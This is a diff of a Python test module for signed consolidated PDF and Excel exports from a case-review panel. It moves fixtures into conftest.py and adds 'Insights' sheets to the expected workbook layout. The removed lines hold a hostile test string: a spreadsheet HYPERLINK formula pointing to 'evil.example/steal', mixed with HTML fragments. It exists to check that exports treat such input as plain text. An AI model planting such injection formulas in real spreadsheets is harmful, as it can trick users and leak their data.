@@ -1,9 +1,6 @@
 """The coordinator's consolidated PDF and workbook: signed, verified, literal, complete.
 
-One small rehearsal (demo-panel, 30 cases, 3 reviewers) is made per module;
-on a copy of its coordinator workspace one open disagreement is adjudicated
-with a hostile rationale and an edited member export is offered (and
-refused), and the consolidated files are written from that.
+The files come from the small rehearsal in this folder's conftest.py.
 """
 
 from __future__ import annotations
@@ -11,7 +8,6 @@ from __future__ import annotations
 import shutil
 import subprocess
 import zipfile
-from dataclasses import dataclass, replace
 from pathlib import Path
 
 import pytest
@@ -26,64 +22,7 @@ from exports.verify import consolidated_report
 from exports.errors import ExportError, SignedFileInvalid
 from exports.verify import verify_file
 
-HOSTILE = ('=HYPERLINK("http://evil.example/steal","Click here") The coordinator finds '
-           '<b>not bold</b> & R&D lines of inquiry were missed; <img src="x.png"> stays text.')
-EDITED_NAME = "R01-edited.xlsx"
-
-
-@dataclass(frozen=True)
-class Consolidated:
-    folder: Path
-    pdf: Path
-    xlsx: Path
-    hostile_case: str
-    open_case: str | None
-    awaiting: list[str]
-
-
-def _pdftotext(path: Path) -> str:
-    if shutil.which("pdftotext") is None:
-        pytest.skip("pdftotext (poppler-utils) is not installed")
-    return subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True,
-                          text=True, check=True).stdout
-
-
-@pytest.fixture(scope="module")
-def rehearsal(tmp_path_factory) -> Path:
-    from exports.rehearsal import run_demo_panel
-    folder = tmp_path_factory.mktemp("consolidated") / "panel"
-    result = run_demo_panel(folder, PASSPHRASE, reviewers=3, cases=30, seed=2,
-                            say=lambda _line: None)
-    assert result.refused == 0 and result.adjudicated >= 1
-    return folder
-
-
-@pytest.fixture(scope="module")
-def consolidated(rehearsal, tmp_path_factory) -> Consolidated:
-    from openpyxl import load_workbook
-    from exports.merge_files import merge_files
-    out = tmp_path_factory.mktemp("consolidated-out")
-    coord_path = out / "coordinator.prw"
-    shutil.copyfile(rehearsal / "coordinator.prw", coord_path)
-    edited = out / EDITED_NAME
-    wb = load_workbook(rehearsal / "exports/R01.xlsx")
-    wb["Decisions"]["L2"].value = "Rewritten after signing by somebody else entirely."
-    wb.save(edited)
-    with CoordinatorWorkspace.open(coord_path, PASSPHRASE) as coord:
-        outcomes = merge_files(coord, [edited])
-        assert outcomes[0].outcome == "refused"
-        rows = coord.overview()
-        open_cases = [r.case_id for r in rows if r.status == "disagreement"]
-        assert len(open_cases) >= 2, "the rehearsal needs two open disagreements"
-        hostile_case = open_cases[0]
-        base = next(d for d in coord.visible_reviews(hostile_case).values()
-                    if d and not d.recused)
-        coord.adjudicate(hostile_case, replace(base, rationale=HOSTILE, status="final"))
-        data = collect_consolidated(coord)
-    identity = load_identity(rehearsal / "identities/coordinator", PASSPHRASE)
-    export_consolidated(data, identity, pdf_path=out / "c.pdf", xlsx_path=out / "c.xlsx")
-    return Consolidated(out, out / "c.pdf", out / "c.xlsx", hostile_case, open_cases[1],
-                        [r.case_id for r in rows if r.status == "awaiting"])
+from tests.exports.consolidated.conftest import EDITED_NAME, HOSTILE, _pdftotext
 
 
 # -- signatures -------------------------------------------------------------------
@@ -181,6 +120,9 @@ def _column(ws, header: str) -> str:
     ("Reviews", "Rationale"),
     ("Disagreements", "Adjudication rationale"),
     ("Files", "Reason"),
+    ("Insights by group", "Rate"),
+    ("Insights delay", "Median days"),
+    ("Insights repeat subjects", "Panel category"),
 ])
 def test_edited_cell_is_invalid_and_named(consolidated, tmp_path, sheet, header):
     from openpyxl import load_workbook
@@ -295,8 +237,9 @@ def test_pdf_lists_refused_file_with_reason_and_disputed_cases(consolidated):
 def test_workbook_sheets_are_typed_frozen_and_filtered(consolidated):
     from openpyxl import load_workbook
     wb = load_workbook(consolidated.xlsx)
-    assert wb.sheetnames[:6] == ["Final decisions", "Reviews", "Disagreements", "Agreement",
-                                 "Files", "About"]
+    assert wb.sheetnames[:10] == ["Final decisions", "Reviews", "Disagreements", "Agreement",
+                                  "Files", "Insights", "Insights by group", "Insights delay",
+                                  "Insights repeat subjects", "About"]
     assert wb["Signature"].sheet_state == "hidden"
     note = wb["Signature"]["B1"].value
     assert "the coordinator's signature" in note and "member" not in note
